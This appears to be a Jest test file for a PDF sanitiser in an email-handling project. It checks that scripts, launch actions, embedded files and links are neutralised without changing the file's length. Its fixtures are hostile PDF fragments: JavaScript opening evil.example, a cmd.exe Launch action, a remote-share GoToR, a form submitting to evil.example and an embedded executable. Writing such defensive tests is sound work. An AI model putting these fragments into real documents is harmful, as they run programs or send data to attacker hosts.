/** PDFs without what they do: same length, same places, nothing left that the reader finds; what cannot be done for sure is said. */
import { hash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { parseMail } from '../../../src/parse/parse.ts';
import { readAttachments } from '../../../src/traits/attachments.ts';
import { flatten } from '../../../src/traits/flatten/flatten.ts';
import { latin1, part } from '../parts.ts';
import { type PdfParts, packedPdfOf, pdfOf } from './documents.ts';

const SCRIPT = '<< /S /JavaScript /JS (app.launchURL\\("http://evil.example/x"\\)) >>';
const FILE = '<< /Type /EmbeddedFile /Length 9 >>\nstream\nMZprogram\nendstream';

const found = async (content: Buffer) => {
  const { attachments, links } = await readAttachments({
    parts: [part('a.pdf', content, { declaredType: 'application/pdf' })],
  });
  return { hazards: attachments[0]?.hazards.map(({ kind }) => kind) ?? [], urls: links.map(({ url }) => url) };
};

async function flat(content: Buffer): Promise<Buffer> {
  const result = await flatten(content, 'a.pdf');
  if (result.to !== 'pdf') throw new Error(JSON.stringify(result));
  return result.content;
}

const CASES: readonly (readonly [string, PdfParts, RegExp])[] = [
  ['a script on opening', { catalog: '/OpenAction 6 0 R', more: [SCRIPT] }, /pdf-script/],
  ['a script by name', { catalog: '/Names << /JavaScript << /Names [(a) 6 0 R] >> >>', more: [SCRIPT] }, /pdf-script/],
  ['names with letters as #xx', { catalog: '/Open#41ction << /S /J#61vaScript /J#53 (eval) >>' }, /pdf-script/],
  ['a program', { catalog: '/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>' }, /pdf-launch/],
  ['an action of a page', { page: `/AA << /O ${SCRIPT} >>` }, /pdf-open-action/],
  ['a remote file', { catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\x) >>' }, /pdf-launch/],
  ['a form that sends', { page: '/AA << /O << /S /SubmitForm /F (https://evil.example/f) >> >>' }, /pdf-open-action/],
];

describe('what is found in it before is gone after', () => {
  test.each(CASES)('%s, in plain sight', async (_name, parts, kind) => {
    const before = pdfOf(parts);
    expect((await found(before)).hazards.join()).toMatch(kind);
    const after = await flat(before);
    expect(after.length).toBe(before.length);
    expect(await found(after)).toEqual({ hazards: [], urls: [] });
    expect(after.includes('(Invoice 4711) Tj')).toBe(true);
  });
  test.each(CASES)('%s, packed', async (_name, parts, kind) => {
    const before = packedPdfOf(parts);
    expect((await found(before)).hazards.join()).toMatch(kind);
    const after = await flat(before);
    expect(after.length).toBe(before.length);
    expect(await found(after)).toEqual({ hazards: [], urls: [] });
  });
  test('a file kept inside, and the annotation that opens it', async () => {
    const before = pdfOf({
      page: '/Annots [<< /Type /Annot /Subtype /FileAttachment /FS << /F (a.exe) /EF << /F 6 0 R >> >> >>]',
      more: [FILE],
    });
    expect((await found(before)).hazards).toEqual(['pdf-file']);
    const after = (await flat(before)).toString('latin1');
    expect(after).not.toMatch(/\/(?:EmbeddedFile|EF|FileAttachment)\b/);
  });
  test('links, and a form in XML', async () => {
    const before = pdfOf({
      catalog: '/AcroForm << /Fields [] /XFA 6 0 R >>',
      page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://evil.example/x) >> >>]',
    });
    expect((await found(before)).urls).toEqual(['https://evil.example/x']);
    const after = await flat(before);
    expect((await found(after)).urls).toEqual([]);
    expect(after.toString('latin1')).not.toMatch(/\/(?:URI|XFA)\b/);
  });
  test('only names are written over: what is shown keeps its bytes', async () => {
    const before = pdfOf({ catalog: '/OpenAction 6 0 R', more: [SCRIPT] });
    const after = await flat(before);
    const changed = [...before].flatMap((byte, index) => (byte === after[index] ? [] : [after[index]]));
    expect(changed).toEqual(Array(changed.length).fill('x'.charCodeAt(0)));
    expect(changed.length).toBe('OpenActionJavaScriptJS'.length);
  });
});

describe('what cannot be done for sure', () => {
  const active: PdfParts = { catalog: '/OpenAction 6 0 R', more: [SCRIPT] };
  test.each([
    ['encrypted', pdfOf({ ...active, catalog: '/OpenAction 6 0 R /Encrypt 9 0 R' }), 'a.pdf', /encrypted/],
    ['another name', pdfOf(active), 'a.pdf.exe', /another name/],
    ['something in front', Buffer.concat([latin1('MZ\n'), pdfOf(active)]), 'a.pdf', /begin as a PDF|its kind/],
    [
      'objects in hex digits',
      packedPdfOf(active, (plain) => latin1(`${plain.toString('hex')}>`), '/Type /ObjStm /Filter /ASCIIHexDecode'),
      'a.pdf',
      /cannot be repeated/,
    ],
    ['objects cut short', packedPdfOf(active, (plain) => deflateSync(plain).subarray(0, -9)), 'a.pdf', /unpacked/],
    [
      'objects that burst',
      packedPdfOf({ ...active, more: [SCRIPT, `(${'a'.repeat(1_100_000)})`] }),
      'a.pdf',
      /unpacked/,
    ],
    [
      'packed objects that do not say so',
      packedPdfOf(active, (plain) => deflateSync(plain), '/Filter /FlateDecode'),
      'a.pdf',
      /hide packed objects/,
    ],
    ['too long', Buffer.concat([pdfOf(active), Buffer.alloc(8 * 1024 * 1024)]), 'a.pdf', /too long/],
    ['the name of a text', pdfOf(active), 'a.txt', /another name|its kind/],
    [
      'an address that it shows',
      pdfOf({
        ...active,
        more: [SCRIPT, '<< /Length 36 >>\nstream\nBT (https://evil.example/login) Tj ET \nendstream'],
      }),
      'a.pdf',
      /still holds https:\/\/evil/,
    ],
  ])('%s', async (_name, content, fileName, whyNot) => {
    const result = await flatten(content, fileName);
    expect(result).toEqual({ to: 'nothing', whyNot: expect.stringMatching(whyNot) });
  });
  test('objects that do not fit where they were', async () => {
    // Each second line was packed as one copy of the first, which is another name; with the name written over it takes two.
    const lines = Array.from({ length: 80 }, (_, index) => hash('sha256', `${index}`).slice(0, 20));
    const first = lines.map((line) => `${line}/URI0`).join('\n');
    const second = lines.map((line) => `${line}/URI `).join('\n');
    const result = await flatten(
      packedPdfOf({ more: [`(${first})`, `(${second})`] }, (plain) => deflateSync(plain, { level: 9, memLevel: 9 })),
      'a.pdf',
    );
    expect(result).toEqual({ to: 'nothing', whyNot: 'its objects do not fit where they were' });
  });
});

test('the form of a sample loses its script and keeps its length', async () => {
  const raw = readFileSync(
    join(import.meta.dirname, '..', '..', '..', 'samples', 'attachments', 'form-that-calculates', 'message.eml'),
  );
  const content = (await parseMail(raw)).parts.find(({ fileName = '' }) => fileName.endsWith('.pdf'))?.content;
  if (content === undefined) throw new Error('the sample has no PDF');
  expect((await found(content)).hazards).toContain('pdf-script');
  const after = await flat(content);
  expect(after.length).toBe(content.length);
  expect(await found(after)).toEqual({ hazards: [], urls: [] });
});

test('any pieces in any order: a rendering has nothing left, or there is none', async () => {
  const piece = fc.constantFrom(
    '/OpenAction ',
    '/J#61vaScript ',
    '/JS (eval)',
    '/Launch',
    '/URI (https://evil.example/x)',
    '/EF ',
    '6 0 obj ',
    ' endobj ',
    '<<',
    '>>',
    'stream\n',
    '\nendstream',
    '(',
    ')',
    '%',
    '\n',
    '/AA',
    '/Type /ObjStm /First 9 /Length 3 ',
    '\0',
  );
  let count = 0;
  await fc.assert(
    fc.asyncProperty(fc.array(piece, { maxLength: 30 }), async (pieces) => {
      const before = Buffer.concat([pdfOf({ catalog: '/OpenAction 6 0 R' }), latin1(pieces.join(''))]);
      const result = await flatten(before, 'a.pdf');
      if (result.to !== 'pdf') return;
      count++;
      expect(result.content.length).toBe(before.length);
      expect(await found(result.content)).toEqual({ hazards: [], urls: [] });
    }),
    { numRuns: 500 },
  );
  expect(count).toBeGreaterThan(100);
});
